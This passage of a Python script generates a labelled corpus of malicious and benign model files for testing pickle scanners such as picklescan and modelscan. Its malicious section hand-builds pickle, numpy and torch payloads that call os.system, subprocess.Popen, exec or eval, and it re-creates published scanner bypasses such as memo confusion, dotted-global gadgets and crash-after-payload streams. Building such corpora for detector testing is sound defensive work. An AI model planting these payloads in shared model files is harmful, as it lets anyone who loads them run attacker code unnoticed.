        'structured': "{'descr': [('a', '<i8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }",
        'subarray': "{'descr': [('a', '|O', (2,))], 'fortran_order': False, 'shape': (1,), }",
        'comma-string': "{'descr': 'i8,O', 'fortran_order': False, 'shape': (1,), }",
        'double-quotes': '{"descr": "O8", "fortran_order": False, "shape": (1,), }',
    }
    for i, (name, header) in enumerate(cases.items()):
        ext = ['.npy', '.bin', '.dat'][i % 3]
        data = npy(header, payload, version=1 if i % 2 == 0 else 2)
        mal('npy', 'npy-%s%s' % (name, ext), data, 'posix.system', oracle_data=payload)
    data = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload, version=3)
    mal('npy', 'npy-v3.npy', data, 'posix.system', oracle_data=payload)
    obj = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload)
    for name, ext, member in [('npz-as-bin', '.bin', 'x.npy'), ('npz-member-no-ext', '.npz', 'arr_0'), ('npz-as-zip', '.zip', 'a.npy')]:
        out = io.BytesIO()
        with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
            z.writestr('ok.npy', npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", struct.pack('<d', 1.0)))
            z.writestr(member, obj)
        mal('npz', name + ext, out.getvalue(), 'posix.system', oracle_data=payload)


def published_bypasses():
    """Shapes of bypasses published against picklescan and modelscan (advisories and fixed tests), re-made here."""
    # Non-standard extensions picklescan skipped (.bin/.pt renamed, .ckpt, .data); payloads in them.
    for ext in ['.ckpt', '.data', '.model', '.sav', '.p', '']:
        mal('bypass-extension', 'bypass-ext%s' % (ext or '-none'), pickle.dumps(Reduce(os.system, (CMD,)), protocol=4), 'posix.system')
    # A zip whose pickle member is named without .pkl, and a zip inside a zip-like torch file.
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, 'w') as z:
        z.writestr('archive/data.pkl', p2_call('builtins', 'exec', 'import os'))
    mal('bypass-zip', 'bypass-zip-exec.pt', inner.getvalue(), 'builtins.exec', oracle_data=p2_call('builtins', 'exec', 'import os'))
    # Functions picklescan/modelscan lists missed: each a real way to run code or read files.
    for m, n in [('torch.utils._config_module', 'ConfigModule'), ('torch._inductor.codecache', 'compile_file'), ('numpy.f2py', 'run_main'),
                 ('_io', 'FileIO'), ('io', 'open_code'), ('linecache', 'getline'), ('fileinput', 'input'), ('zipfile', 'ZipFile'),
                 ('bdb', 'Bdb.run'), ('pip', 'main'), ('asyncio.unix_events', '_UnixSubprocessTransport'), ('_osx_support', '_read_output'),
                 ('_aix_support', '_read_cmd_output'), ('distutils.file_util', 'write_file'), ('sysconfig', 'get_config_vars'),
                 ('venv', 'create'), ('site', 'main'), ('pkgutil', 'resolve_name'), ('operator', 'methodcaller'), ('functools', 'reduce')]:
        mal('bypass-callable', 'bypass-%s-%s.pkl' % (m.replace('.', '_'), n.replace('.', '_')), p4_call(m, n), '%s.%s' % (m, n))
    # getattr gadget: builtins.getattr(builtins.__import__('os'), 'system')
    data = (b'\x80\x02' + glob('builtins', 'getattr') + b'(' + glob('builtins', '__import__') + b'(' + bu('os') + b'tR' + bu('system') + b'tR'
            + bu(CMD) + b'\x85R.')
    mal('bypass-gadget', 'bypass-getattr-import.pkl', data, 'builtins.getattr')
    # BUILD calling __setstate__ of a dangerous class; NEWOBJ_EX of a dangerous class.
    data = b'\x80\x04' + sglob('subprocess', 'Popen') + b')\x81' + b'}' + b'b.'
    mal('bypass-gadget', 'bypass-build-setstate.pkl', data, 'subprocess.Popen')
    data = b'\x80\x04' + sglob('subprocess', 'Popen') + su(CMD) + b'\x85}\x92.'
    mal('bypass-gadget', 'bypass-newobj-ex.pkl', data, 'subprocess.Popen')
    # BUILD's slotstate sets attributes on an allow-listed function, read back through dotted GLOBALs, then STACK_GLOBAL
    # (the shape of modelscan issue 85, re-made).
    data = (b'\x80\x05' + glob('numpy', 'prod') + b'N(Va\nVos\nd\x86b' + b'N(Vb\nVsystem\nd\x86b' + b'0'
            + glob('numpy', 'prod.a') + b'p0\n' + glob('numpy', 'prod.b') + b'p1\n00' + b'g0\ng1\n\x93' + b'V%s\n' % CMD.encode() + b'\x85R.')
    mal('bypass-gadget', 'bypass-build-slotstate-dotted.pkl', data, 'numpy.prod.a')
    # numpy.__builtins__ reached as a global, eval taken from it by a REDUCE of an allow-looking callable (modelscan issue 330 shape).
    data = (b'\x80\x04' + sglob('numpy', 'size') + b'\x94\x94' + sglob('numpy', '__builtins__') + b'\x94\x94' + b'h\x01}}' + su('shape')
            + b'h\x03s\x86b' + b'h\x01h\x01' + su('eval') + b'\x86R' + su('1+1') + b'\x85R.')
    mal('bypass-gadget', 'bypass-numpy-builtins.pkl', data, 'numpy.__builtins__')
    # importlib.import_module + getattr + str.join building "os" (modelscan issue 331 shape).
    data = (b'\x80\x04' + sglob('importlib', 'import_module') + b'\x94' + su('builtins') + b'\x85R\x94' + sglob('builtins', 'getattr') + b'\x94'
            + b'h\x02h\x01' + su('str') + b'\x86R' + su('join') + b'\x86R' + su('') + b'](' + su('o') + su('s') + b'e\x86R\x94'
            + b'h\x02h\x03' + su('system') + b'\x86R' + su(CMD) + b'\x85R.')
    mal('bypass-gadget', 'bypass-import-module-join.pkl', data, 'importlib.import_module')
    # The payload runs, then a GET of a key never stored breaks the stream (scanners that abort there report nothing).
    data = p2_call('os', 'system')[:-1] + b'0h\x63.'
    mal('bypass-crash', 'bypass-missing-memo-after-payload.pkl', data, 'os.system')
    data = p2_call('os', 'system')[:-1] + b'0\xff'
    mal('bypass-crash', 'bypass-bad-opcode-after-payload.pkl', data, 'os.system')
    # picklescan's memo confusion: BINPUT and MEMOIZE mixed so a memo-less model sees safe names.
    data = (b'\x80\x04' + su('os') + b'q\x00' + su('system') + b'q\x01' + su('torch._utils') + b'\x94' + su('_rebuild_tensor_v2') + b'\x94'
            + b'0000' + b'h\x00h\x01\x93' + su(CMD) + b'\x85R.')
    mal('bypass-memo', 'bypass-binput-memoize-mix.pkl', data, 'os.system')
    for m, n in [('mailcap', 'findmatch'), ('torch._dynamo.guards', 'GuardBuilder.get'), ('torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression'),
                 ('torch.utils.bottleneck.__main__', 'run_cprofile'), ('code', 'InteractiveInterpreter.runcode'), ('pkgutil', 'resolve_name')]:
        mal('bypass-callable', 'bypass2-%s-%s.pkl' % (m.replace('.', '_'), n.replace('.', '_')), p4_call(m, n), '%s.%s' % (m, n))
    # A benign torch state_dict with a payload appended in the dict (realistic model shape).
    import torch
    sd = {'layer.weight': torch.zeros(2, 2), 'hook': Reduce(os.system, (CMD,))}
    buf = io.BytesIO()
    torch.save(sd, buf)
    zf = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    pkl = [zf.read(n) for n in zf.namelist() if n.endswith('data.pkl')][0]
    mal('bypass-torch', 'torch-state-dict-payload.pt', buf.getvalue(), 'posix.system', oracle_data=pkl)
    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    mal('bypass-torch', 'torch-legacy-payload.pth', buf.getvalue(), 'posix.system', legacy=True, oracle_data=buf.getvalue())


# --- benign ----------------------------------------------------------------------------------

def benign_files():
    import torch
    import joblib
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.ensemble import RandomForestClassifier, GradientBoostingClassifier
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.svm import SVC
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler, SplineTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, IsolationForest
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.cluster import KMeans
    torch.manual_seed(0)
    X, y = load_iris(return_X_y=True)
    models = {
        'torch-linear': torch.nn.Linear(4, 3),
        'torch-mlp': torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3)),
        'torch-cnn': torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.Flatten(), torch.nn.Linear(2 * 26 * 26, 10)),
    }
    for name, model in models.items():
        for legacy in (False, True):
            for what, obj in [('state-dict', model.state_dict()), ('full', model)]:
                buf = io.BytesIO()
                torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
                ext = '.pth' if legacy else '.pt'
                benign('torch-%s%s' % (what, '-legacy' if legacy else ''), '%s-%s%s%s' % (name, what, '-legacy' if legacy else '', ext), buf.getvalue())
    opt = torch.optim.SGD(models['torch-mlp'].parameters(), lr=0.1, momentum=0.9)
    models['torch-mlp'](torch.zeros(1, 4)).sum().backward()
    opt.step()
    buf = io.BytesIO()
    torch.save({'model': models['torch-mlp'].state_dict(), 'optimizer': opt.state_dict(), 'epoch': 3}, buf)
    benign('torch-checkpoint', 'torch-training-checkpoint.pt', buf.getvalue())
    buf = io.BytesIO()
    torch.save({'w': torch.ones(3, dtype=torch.float16), 'i': torch.arange(3), 'b': torch.tensor([True])}, buf)
    benign('torch-state-dict', 'torch-dtypes.bin', buf.getvalue())

    estimators = {
        'logreg': LogisticRegression(max_iter=200), 'forest': RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0),
        'tree': DecisionTreeClassifier(max_depth=3), 'svc': SVC(), 'knn-kdtree': KNeighborsClassifier(algorithm='kd_tree'),
        'mlp': MLPClassifier(hidden_layer_sizes=(5,), max_iter=50, random_state=np.random.RandomState(0)),
        'pipeline': make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)),
        'gboost': GradientBoostingClassifier(n_estimators=3, max_depth=2, random_state=0),
        'hist-gboost': HistGradientBoostingClassifier(max_iter=3, random_state=0), 'calibrated': CalibratedClassifierCV(cv=2),
        'spline': make_pipeline(SplineTransformer(n_knots=3), LogisticRegression(max_iter=200)), 'kmeans': KMeans(2, n_init=1, random_state=0),
        'knn-balltree': KNeighborsClassifier(algorithm='ball_tree'), 'isolation': IsolationForest(n_estimators=2, random_state=0),
    }
    tmp = os.path.join(ROOT, '.tmp')
    os.makedirs(tmp, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        for i, (name, est) in enumerate(estimators.items()):
            est.fit(X, y)
            benign('sklearn-pickle', 'sklearn-%s.pkl' % name, pickle.dumps(est, protocol=[2, 4, 5][i % 3]))
            path = os.path.join(tmp, name)
            compress = [0, ('zlib', 3), ('gzip', 3), 0][i % 4]
            joblib.dump(est, path, compress=compress)
            suffix = {0: '', 1: '-zlib', 2: '-gzip'}[[0, 1, 2, 0][i % 4]]
            benign('sklearn-joblib', 'sklearn-%s%s.joblib' % (name, suffix), open(path, 'rb').read())
    shutil.rmtree(tmp)

    rng = np.random.default_rng(0)
    for name, arr in [('float32', rng.standard_normal((4, 3)).astype(np.float32)), ('int64', np.arange(6)), ('uint8-image', rng.integers(0, 255, (2, 4, 4), dtype=np.uint8)),
                      ('structured', np.zeros(2, dtype=[('a', '<i4'), ('b', '<f8')])), ('object-ints', np.array([1, 2, 3], dtype=object))]:
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        benign('numpy', 'numpy-%s.npy' % name, buf.getvalue())
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3), b=np.ones(2))
    benign('numpy', 'numpy-arrays.npz', buf.getvalue())
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(3), labels=np.array([0, 1, 0]))
    benign('numpy', 'numpy-compressed.npz', buf.getvalue())
    data = {'lr': 0.01, 'layers': [64, 32], 'name': 'mlp', 'tags': {'a', 'b'}, 'pair': (1, 2.5), 'blob': b'\x00\x01', 'none': None}
    for p in range(6):
        benign('plain-pickle', 'plain-p%d.pkl' % p, pickle.dumps(data, protocol=p))
    benign('plain-pickle', 'plain-ordereddict.dat', pickle.dumps(__import__('collections').OrderedDict(a=1), protocol=2))
    benign('plain-pickle', 'plain-numpy-scalars.p', pickle.dumps({'acc': np.float64(0.9), 'n': np.int64(3), 'rng': np.random.RandomState(0)}, protocol=4))
    benign('raw', 'raw-float32.bin', rng.standard_normal(256).astype(np.float32).tobytes())
    benign('raw', 'raw-int64.dat', np.arange(128, dtype=np.int64).tobytes())


def main():
    if '--add-compressed' in sys.argv:
        return add_compressed()
    for label in ('malicious', 'benign'):
        shutil.rmtree(os.path.join(ROOT, label), ignore_errors=True)
        os.makedirs(os.path.join(ROOT, label))
    classic()
    warned_callables()
    dotted_and_reexports()
    stream_starts()
    second_streams()
    compressed()
    more_compressed()
    archives()
    safetensors_lookalikes()
    memo_and_stack()
    npy_tricks()
    published_bypasses()
    benign_files()
    benign_compressed_models()
    write_expected()


def write_expected():
    counts = {label: sum(1 for e in entries if e['label'] == label) for label in ('malicious', 'benign')}
    kinds = sorted({e['kind'] for e in entries if e['label'] == 'malicious'})
    with open(os.path.join(ROOT, 'expected.json'), 'w') as f:
        json.dump({'generator': 'scripts/make-scan-corpus.py', 'python': sys.version.split()[0], 'counts': counts,
                   'kinds': kinds, 'files': entries}, f, indent=1)
    size = sum(os.path.getsize(os.path.join(ROOT, e['file'])) for e in entries)
    print('malicious %(malicious)d, benign %(benign)d' % counts, '- %d bytes' % size)


def add_compressed():
    """
    Writes only the bz2/xz/lzma cases and merges them into expected.json: a full run rewrites
    every file, and legacy torch files do not come out byte for byte the same.
    """
    with open(os.path.join(ROOT, 'expected.json')) as f:
        old = json.load(f)['files']
    more_compressed()
    benign_compressed_models()
    new = {e['file'] for e in entries}
    entries[:0] = [e for e in old if e['file'] not in new]
    write_expected()


if __name__ == '__main__':
    main()
